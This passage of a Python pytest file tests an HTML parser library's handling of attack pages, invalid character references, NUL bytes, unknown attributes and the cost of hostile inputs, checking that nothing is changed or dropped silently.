    raw = ("<html><body>" + "".join(pieces) + "</body></html>").encode()
    scanned = _markup(2).match(raw)
    refused = scanned is None or scanned.end() < len(raw)
    root = etree.fromstring(raw, _parser())
    most = max((len(element.attrib) for element in root.iter()), default=0)
    assert refused or most <= 2


def test_the_attacks_are_real() -> None:
    """The attack pages are what they say: in a parse that keeps everything, the dangerous
    parts are there, so a reader that drops them has dropped something."""
    sample = Env("s", Path(os.devnull), 9)
    for attack in ATTACKS:
        if attack.name in ("scripts", "forms", "iframes", "event handlers", "javascript links"):
            data = attack.build(sample)
            assert isinstance(data, str)
            parsed = etree.tostring(_parse(data), encoding="unicode")
            assert MARK in parsed or URLMARK in parsed


# ======================================================================================
# Characters and attributes: nothing changed or dropped without a word


def _own(**fields: Any) -> str:
    from ._support import _own_page

    return _own_page(**fields)


@pytest.mark.parametrize(
    "reference",
    ["&#0;", "&#x0;", "&#00000;", "&#xD800;", "&#xdfff;", "&#x110000;", "&#9999999999;"],
)
@pytest.mark.parametrize("where", ["text", "attribute", "other page"])
def test_lossless_a_reference_to_no_character_is_refused_at_its_line(
    reference: str, where: str
) -> None:
    """HTML reads these as U+FFFD: refused, with the line and column, as Markdown does."""
    own = _own()
    if where == "text":
        data = own.replace("<h1>", f"<h1>\n{reference}", 1)
    elif where == "attribute":
        data = own.replace("<h1>", f'<h1>\n<abbr title="a{reference}">b</abbr>', 1)
    else:
        data = f"<html><body><h1>Head</h1>\n<p>x</p>\n<p>a {reference}</p></body></html>"
    with pytest.raises(bm.ParseError) as caught:
        bm.loads(data, "html")
    problem = caught.value.problem
    assert problem.code == "parse.syntax"
    assert problem.line == data.count("\n", 0, data.index(reference)) + 1
    assert "U+FFFD" in problem.message
    assert not bm.validate(data, "html").ok


@pytest.mark.parametrize("data", [b"\x00", "\x00", "a\x00", b"\x00" * 3])
def test_lossless_a_nul_anywhere_is_refused_at_its_line(data: str | bytes) -> None:
    page = _own().replace("<p>", "<p>\n\n", 1)
    at = page.index("<p>") + 4
    text = page[:at] + (data if isinstance(data, str) else data.decode()) + page[at:]
    for given_ in (text, text.encode("utf-8")):
        with pytest.raises(bm.ParseError) as caught:
            bm.loads(given_, "html")
        assert caught.value.problem.line == text.count("\n", 0, text.index("\x00")) + 1
        assert "NUL" in caught.value.problem.message


@pytest.mark.parametrize("char", ["\x01", "\x1f", "\ufffe"])
def test_lossless_a_character_xml_cannot_carry_is_read_as_it_is_and_said(char: str) -> None:
    """Read intact (no U+FFFD in its stead); the brief cannot hold it, which is said at
    its pointer, as for JSON and Markdown."""
    data = _own().replace("<p>", "<p>a" + char, 1)
    with pytest.raises(bm.ValidationError) as caught:
        bm.loads(data, "html")
    codes = {(p.code, p.path) for p in caught.value.problems if p.severity == "error"}
    assert codes == {("text.not-xml-char", "/sections/0/blocks/0/content")}
    assert f"U+{ord(char):04X}" in str(caught.value)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("<p>", '<p style="color:red">'),
        ("<p>", "<p data-keep>"),
        ("<h1>", '<h1 title="kept?">'),
        ("<section", '<section hidden=""'),
        ('<article class="brief"', '<article class="brief" data-foo="1"'),
    ],
)
def test_lossless_an_unknown_attribute_on_our_own_page_is_never_silent(old: str, new: str) -> None:
    page = _own().replace(old, new, 1)
    with pytest.raises(bm.ValidationError) as caught:
        bm.loads(page, "html")
    (problem,) = caught.value.problems
    assert problem.code == "html.dropped"
    assert problem.line == page.count("\n", 0, page.index(new)) + 1
    report = bm.validate(page, "html")
    assert [p.code for p in report.errors] == ["html.dropped"]
    with pytest.warns(bm.BriefmodelWarning, match="1 loss"):
        kept = bm.loads(page, "html", strict=False)
    assert kept.extensions["briefmodel:unknown"]


@pytest.mark.parametrize("step", ["loads", "validate"])
@pytest.mark.parametrize("family", hostile.of_format("html"), ids=lambda f: f.name)
def test_hostile_html_costs_work_in_proportion_to_its_size(
    family: hostile.Family, step: str
) -> None:
    """Each family of the benchmark's hostile input of this format does about four times
    the work (lines of Python run) at four times the size, read or validated."""
    assert_linear(hostile_run(family, step), 3000)
